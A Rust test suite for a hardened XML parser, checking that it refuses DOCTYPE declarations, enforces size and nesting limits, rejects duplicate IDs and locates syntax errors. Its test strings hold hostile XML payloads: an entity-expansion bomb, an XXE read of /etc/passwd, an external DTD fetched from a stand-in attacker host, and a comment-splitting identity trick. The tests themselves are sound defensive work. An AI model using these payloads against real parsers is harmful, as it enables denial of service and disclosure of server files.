use super::*;
use crate::testing::test;

#[track_caller]
fn refused(text: &str, code: &str) -> Fault {
    match read(text) {
        Ok(_) => panic!("{} is read", quoted(text)),
        Err(fault) => {
            assert_eq!(fault.code, code, "{}", fault.found);
            if let Some(at) = fault.at {
                assert!(text.get(at.bytes()).is_some(), "{fault:?}");
            }
            fault
        }
    }
}

#[test]
fn document_types_are_refused() {
    let laughs = "<!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol1 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">\
                  <!ENTITY lol2 \"&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;\">]><lolz>&lol2;</lolz>";
    for text in [
        laughs,
        "<?xml version=\"1.0\"?>\n<!-- x --><!DOCTYPE a SYSTEM \"file:///etc/passwd\"><a/>",
        "<!doctype html><html></html>",
        "<!DOCTYPE a [<!ENTITY % p SYSTEM \"http://evil.example/x.dtd\">%p;]><a/>",
        "<!DOCTYPE a><a/>",
        "<a><!DOCTYPE b></a>",
    ] {
        let fault = refused(text, code::XML_DTD);
        let at = fault.at.expect("a part");
        assert!(text[at.bytes()].eq_ignore_ascii_case("<!DOCTYPE"));
    }
    let hidden = "<a><!-- <!DOCTYPE a> --><![CDATA[<!DOCTYPE a>]]></a>";
    assert_eq!(
        value(read(hidden).expect("XML").root_element()),
        "<!DOCTYPE a>"
    );
    refused("<a>&lol;</a>", code::XML_SYNTAX);
}

#[test]
fn limits_hold() {
    let within = |count: usize| format!("{}{}", "<a>".repeat(count), "</a>".repeat(count));
    assert!(read(&within(DEEPEST)).is_ok());
    refused(&within(DEEPEST + 1), code::XML_LIMIT);
    refused(&within(1_000_000), code::XML_LIMIT);
    refused(&"<a>".repeat(3_000_000), code::XML_LIMIT);
    refused(&"<".repeat(MOST_BYTES), code::XML_SYNTAX);
    refused(&"<a/>".repeat(2_000_000), code::XML_LIMIT);
    refused(
        &format!("<a>{}</a>", "<b/>".repeat(2_000_000)),
        code::XML_LIMIT,
    );
    refused(&"=".repeat(MOST_BYTES), code::XML_LIMIT);
    refused(&"a".repeat(MOST_BYTES + 1), code::TOO_LARGE);
    refused(
        &format!("<a {}/>", "b='' ".repeat(1_000_000)),
        code::XML_LIMIT,
    );
    let attributes: String = (0..=MOST_ATTRIBUTES)
        .map(|at| format!(" a{at}=''"))
        .collect();
    refused(&format!("<a{attributes}/>"), code::XML_LIMIT);
    let namespaces: String = (0..=MOST_NAMESPACES)
        .map(|at| format!(" xmlns:a{at}='u'"))
        .collect();
    refused(&format!("<a{namespaces}/>"), code::XML_LIMIT);
    let spread: String = (0..40)
        .map(|at| format!("<a xmlns:a{at}='u' xmlns:b{at}='u'>"))
        .collect();
    refused(&spread, code::XML_LIMIT);
}

/// Ten megabytes that are within all limits are read, and quickly enough not to be an attack.
#[test]
fn a_large_document_is_read() {
    let row = "<b xmlns:c='urn:c' c:d='e'>some text that is as long as a value of SAML may be, or even longer than that</b>";
    let text = format!("<a>{}</a>", row.repeat(MOST_BYTES / row.len() - 1));
    let document = read(&text).expect("XML");
    assert!(document.descendants().count() > 150_000);
}

#[test]
fn an_id_is_there_once() {
    for text in [
        "<a ID='1'><b ID='1'/></a>",
        "<a ID='1'><b Id='1'/></a>",
        "<a id='1'><b xml:id='1'/></a>",
        "<a ID='1'><b ID='&#x31;'/></a>",
    ] {
        let fault = refused(text, code::XML_ID_TWICE);
        let at = fault.at.expect("a part");
        assert!(at.start > 10, "{text}");
    }
    assert!(read("<a ID='1' x='1'><b ID='2' y='1'/></a>").is_ok());
}

#[test]
fn mistakes_are_pointed_at() {
    for (text, part) in [
        ("<a>\n<b></c></a>", "</c></a>"),
        ("<a>ü<b x=1/></a>", "1/></a>"),
        ("<a x='1' x='2'/>", "x='2'/>"),
        ("<p:a/>", "p:a/>"),
        ("<a>&x;</a>", "&x;</a>"),
        ("no XML", "no XML"),
        ("<a><b xmlns:c=''/></a>", "<b xmlns:c=''/>"),
        (
            "<a><b xmlns='u' xmlns='v'/></a>",
            "<b xmlns='u' xmlns='v'/>",
        ),
    ] {
        let fault = refused(text, code::XML_SYNTAX);
        let at = fault.at.expect("a part");
        assert_eq!(&text[at.bytes()], part, "{}", fault.found);
    }
    for text in ["", "<", "<a", "<a>", "<a><![CDATA[", "<a/><b/>", "<!--"] {
        refused(text, code::XML_SYNTAX);
    }
}

#[test]
fn a_value_goes_on_after_a_comment() {
    let document = read("<a>ada@acme.example<!-- -->.evil.example</a>").expect("XML");
    assert_eq!(
        value(document.root_element()),
        "ada@acme.example.evil.example"
    );
}

#[test]
fn a_start_tag_ends_where_it_ends() {
    let document = read("<a b='>' c=\"'>\">x</a>").expect("XML");
    let at = start_tag(document.root_element());
    assert_eq!(&document.input_text()[at.bytes()], "<a b='>' c=\"'>\">");
}
